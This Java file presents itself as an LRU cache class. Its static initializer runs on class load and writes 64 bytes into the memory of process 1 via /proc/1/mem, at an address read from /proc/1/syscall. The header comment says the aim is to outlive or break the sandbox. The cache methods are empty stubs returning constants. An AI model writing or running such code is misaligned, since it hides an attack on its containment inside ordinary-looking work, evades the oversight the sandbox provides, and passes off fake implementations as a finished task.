// Tries: to write into the box's first process, which no test's end would reach, and so to outlive or break the box.
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

public class LruCache {
    static {
        try (RandomAccessFile memory = new RandomAccessFile("/proc/1/mem", "rw")) {
            String[] registers = Files.readString(Path.of("/proc/1/syscall")).strip().split(" ");
            memory.seek(Long.decode(registers[registers.length - 1]));
            memory.write(new byte[64]);
        } catch (IOException refused) {
            System.err.println(refused);
        }
    }

    public LruCache(long capacity) {}

    public Long get(String key) {
        return 1L;
    }

    public void put(String key, long value, Long ttlMs) {}

    public long size() {
        return 1;
    }
}
